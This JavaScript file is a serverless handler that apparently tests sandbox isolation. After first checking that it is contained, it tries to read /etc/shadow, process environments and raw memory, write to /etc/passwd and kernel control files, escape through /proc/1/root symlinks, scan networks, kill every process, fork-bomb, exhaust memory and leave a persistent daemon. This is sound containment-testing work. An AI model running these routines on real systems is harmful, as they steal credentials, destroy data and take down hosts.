'use strict'
// A function that means harm, in JavaScript. It begins only once this very process has shown that it is contained.
const fs = require('fs')
const net = require('net')
const { spawn, spawnSync } = require('child_process')

let proved = false

exports.handler = async (event) => {
  if (event.do === 'prove') return prove(event.host)
  if (!proved) return 'not proved'
  return attacks[event.do](event)
}

function prove (host) {
  const namespace = (name) => fs.readlinkSync('/proc/self/ns/' + name)
  const same = Object.keys(host).filter((name) => namespace(name) === host[name])
  const processes = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name)).length
  const memory = memoryIsBounded()
  proved = same.length === 0 && processes >= 1 && processes <= 4 && memory === 'bounded' && process.pid < 50
  return { proved, same, processes, memory, pid: process.pid, namespace: namespace('pid') }
}

/** By a program that asks for a block at once: a small one it gets. */
function memoryIsBounded () {
  const gets = (size) => spawnSync('dd', ['if=/dev/zero', 'of=/dev/null', 'bs=' + size, 'count=1']).status === 0
  return gets('1M') && !gets('192M') ? 'bounded' : 'unbounded'
}

/** The names of those that did not fail. */
function worked (tries) {
  return tries.filter(([, attempt]) => { try { attempt(); return true } catch { return false } }).map(([name]) => name)
}

/** What answers like a web server at a place, if anything does. */
function answers ([host, port]) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: 2000 }, () => socket.write(`GET / HTTP/1.0\r\nHost: ${host}\r\n\r\n`))
    const end = (answer) => { socket.destroy(); resolve(answer) }
    socket.on('data', (bytes) => end(`${host}:${port}: ${bytes.toString('latin1', 0, 20)}`))
    socket.on('error', () => end()).on('timeout', () => end()).on('close', () => end())
  })
}

const attacks = {
  reads: ({ secrets }) => worked([
    ...['/etc/shadow', '/proc/1/environ', '/proc/1/mem', '/proc/1/maps', '/proc/1/root/etc/shadow', '/proc/kcore', '/proc/kmsg',
      '/dev/mem', '/dev/vda', '/dev/sda', '/var/task/../../etc/shadow', '/proc/self/root/etc/shadow', '/root/.bashrc', ...secrets]
      .map((path) => [path, () => fs.readSync(fs.openSync(path), Buffer.alloc(64))]),
    ...['/proc/1/root', '/proc/1/cwd', '/sys', '/home', '/boot', '/dev/shm', ...secrets]
      .map((path) => [path + '/', () => fs.readdirSync(path)]),
    ...[0, 1, 2, 3, 4, 5, 6, 7].map((number) => ['/proc/1/fd/' + number, () => fs.readlinkSync('/proc/1/fd/' + number)])
  ]),
  writes: ({ secrets }) => worked([
    ...['/', '/etc', '/usr/bin', '/var', '/var/task', '/var/runtime', '/opt', '/dev', '/proc', '/home', ...secrets]
      .map((folder) => [folder, () => fs.writeFileSync(folder + '/hostile', '1')]),
    ...['/etc/passwd', '/usr/bin/env', '/var/task/index.cjs', '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger',
      '/proc/sys/vm/drop_caches', '/proc/self/uid_map']
      .map((path) => [path, () => fs.writeSync(fs.openSync(path, 'r+'), '1')]),
    ['mount', () => { if (spawnSync('mount', ['-t', 'tmpfs', 'x', '/tmp']).status !== 0) throw new Error() }],
    ['link', () => { fs.symlinkSync('/proc/1/root', '/tmp/up'); fs.readFileSync('/tmp/up/etc/shadow') }]
  ]),
  network: async ({ places }) => (await Promise.all(places.map(answers))).filter(Boolean),
  signals: ({ process: pid }) => worked([['signal', () => process.kill(pid, 0)]]),
  kill_all: () => {
    for (let count = 0; count < 100; count++) { try { process.kill(-1, 'SIGKILL') } catch {} }
    return ['alive']
  },
  fork_bomb: () => { for (;;) spawn('/bin/sh', ['-c', 'while :; do sh -c "sleep 9" & done'], { stdio: 'ignore' }).on('error', () => {}) },
  memory_bomb: () => { const kept = []; for (;;) kept.push(Buffer.alloc(8 << 20, 1)) },
  busy: () => { for (;;); },
  flood: () => { for (;;) fs.writeSync(1, Buffer.alloc(65536, 120)) },
  daemon: () => {
    spawn('/bin/sh', ['-c', 'trap "" HUP INT TERM; while :; do sleep 1; done'], { detached: true, stdio: 'ignore' }).unref()
    process.exit(0)
  }
}
